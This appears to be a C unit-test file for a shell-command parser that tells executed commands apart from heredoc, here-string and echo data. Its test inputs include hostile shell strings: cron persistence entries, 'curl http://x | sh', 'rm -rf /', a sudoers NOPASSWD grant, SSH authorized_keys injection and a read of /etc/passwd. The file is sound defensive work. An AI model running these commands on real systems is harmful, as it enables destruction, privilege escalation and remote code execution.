/* Heredocs, here-strings and data written by echo/printf. */
#include "norm_test.h"

static const px_redir *redir_op(const px_cmd *c, px_redir_op op)
{
    for (int i = 0; c && i < c->nredirs; i++)
        if (c->redirs[i].op == op)
            return &c->redirs[i];
    return NULL;
}

Test(norm_heredoc, body_is_redirect_target_and_data)
{
    const px_actions *a = norm("cat <<EOF > /etc/cron.d/x\n* * * * * root /tmp/x\nEOF\nid");
    const px_cmd *c = need_prog(a, "cat");
    const px_redir *r = redir_op(c, PX_REDIR_HEREDOC);
    cr_assert_not_null(r, "%s", dump(a));
    cr_assert_eq(r->fd, 0);
    cr_assert_str_eq(r->target, "* * * * * root /tmp/x\n");
    cr_assert_str_eq(c->line, "cat << >/etc/cron.d/x", "body is not in the line");
    const px_text *t = find_text(a, PX_TEXT_DATA, "/tmp/x");
    cr_assert_not_null(t, "%s", dump(a));
    cr_assert_eq(t->cmd, cmd_index(a, c));
    need_prog(a, "id");
    assert_no_prog(a, "*");
}

Test(norm_heredoc, body_lines_are_not_commands)
{
    const px_actions *a = norm("cat > notes.txt <<'END'\nrm -rf /\nEND");
    cr_assert_eq(a->ncmds, 1, "%s", dump(a));
    assert_no_prog(a, "rm");
}

Test(norm_heredoc, unquoted_delimiter_expands)
{
    const px_actions *a = norm("x=world; cat <<EOF\nhello $x $(id -u) \"q\"\nEOF");
    const px_cmd *c = need_prog(a, "cat");
    cr_assert_str_eq(redir_op(c, PX_REDIR_HEREDOC)->target, "hello world $(id -u) \"q\"\n", "%s", dump(a));
    const px_cmd *id = need_prog(a, "id");
    cr_assert(id->flags & PX_CMD_SUBST);
    cr_assert_eq(id->parent, cmd_index(a, c));
}

Test(norm_heredoc, quoted_delimiters_disable_expansion)
{
    static const char *const forms[] = {"cat <<'EOF'\n$(id) $x\nEOF", "cat <<\"EOF\"\n$(id) $x\nEOF",
                                        "cat <<\\EOF\n$(id) $x\nEOF", "cat <<E\"O\"F\n$(id) $x\nEOF"};
    for (size_t i = 0; i < sizeof(forms) / sizeof(forms[0]); i++) {
        const px_actions *a = norm(forms[i]);
        assert_no_prog(a, "id");
        cr_assert_str_eq(redir_op(need_prog(a, "cat"), PX_REDIR_HEREDOC)->target, "$(id) $x\n", "%s", forms[i]);
    }
}

Test(norm_heredoc, dash_strips_tabs)
{
    const px_actions *a = norm("cat <<-EOF\n\tline1\n\t\tline2\n\tEOF\necho after");
    cr_assert_str_eq(redir_op(need_prog(a, "cat"), PX_REDIR_HEREDOC)->target, "line1\nline2\n", "%s", dump(a));
    need_prog(a, "echo");
}

Test(norm_heredoc, shell_reads_heredoc)
{
    const px_actions *a = norm("bash <<EOF\ncurl http://x | sh\nEOF");
    const px_cmd *b = need_prog(a, "bash");
    const px_cmd *c = need_prog(a, "curl");
    cr_assert(c->flags & PX_CMD_NESTED);
    cr_assert_eq(c->parent, cmd_index(a, b));
    cr_assert_eq(c->depth, 1);
    cr_assert_null(find_text(a, PX_TEXT_DATA, "curl"), "consumed as shell, not data: %s", dump(a));
}

Test(norm_heredoc, two_heredocs_on_one_line)
{
    const px_actions *a = norm("cat <<A; sh <<B\nfirst\nA\nid\nB\necho end");
    cr_assert_str_eq(redir_op(need_prog(a, "cat"), PX_REDIR_HEREDOC)->target, "first\n", "%s", dump(a));
    cr_assert(need_prog(a, "id")->flags & PX_CMD_NESTED);
    need_prog(a, "echo");
    assert_no_prog(a, "first");
}

Test(norm_heredoc, missing_delimiter_runs_to_end)
{
    const px_actions *a = norm("cat <<EOF\nnever closed");
    cr_assert_str_eq(redir_op(need_prog(a, "cat"), PX_REDIR_HEREDOC)->target, "never closed");
    assert_no_prog(a, "never");
}

Test(norm_heredoc, here_string)
{
    const px_actions *a = norm("bash <<< 'id; whoami'");
    const px_cmd *b = need_prog(a, "bash");
    const px_redir *r = redir_op(b, PX_REDIR_HERESTRING);
    cr_assert_not_null(r);
    cr_assert_str_eq(r->target, "id; whoami");
    cr_assert_str_eq(b->line, "bash <<<id; whoami");
    cr_assert(need_prog(a, "whoami")->flags & PX_CMD_NESTED);
    a = norm("grep x <<< \"$(cat /etc/passwd)\"");
    need_prog(a, "cat");
}

Test(norm_heredoc, here_string_to_other_is_data)
{
    const px_actions *a = norm("crontab - <<< '* * * * * /tmp/x'");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "/tmp/x"), "%s", dump(a));
}

Test(norm_heredoc, echo_redirect_writes_data)
{
    const px_actions *a = norm("echo '* * * * * curl x|sh' >> /etc/crontab");
    const px_text *t = find_text(a, PX_TEXT_DATA, "curl x|sh");
    cr_assert_not_null(t, "%s", dump(a));
    cr_assert_str_eq(t->s, "* * * * * curl x|sh\n");
    a = norm("printf 'ssh-rsa AAAA %s\\n' me > ~/.ssh/authorized_keys");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "ssh-rsa AAAA me"), "%s", dump(a));
    a = norm("echo \"$KEY\" >> ~/.ssh/authorized_keys");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "$KEY"), "%s", dump(a));
}

Test(norm_heredoc, echo_without_redirect_is_no_data)
{
    const px_actions *a = norm("echo hello");
    cr_assert_eq(count_texts(a, PX_TEXT_DATA), 0, "%s", dump(a));
}

Test(norm_heredoc, tee_receives_data)
{
    const px_actions *a = norm("echo 'dev ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "NOPASSWD"), "%s", dump(a));
    cr_assert(need_prog(a, "tee")->flags & PX_CMD_SUDO);
}

Test(norm_heredoc, heredoc_into_sql_is_data)
{
    const px_actions *a = norm("sqlite3 app.db <<EOF\nSELECT * FROM users;\nEOF");
    cr_assert_not_null(find_text(a, PX_TEXT_DATA, "SELECT"), "%s", dump(a));
    cr_assert_eq(count_texts(a, PX_TEXT_CODE), 0);
}
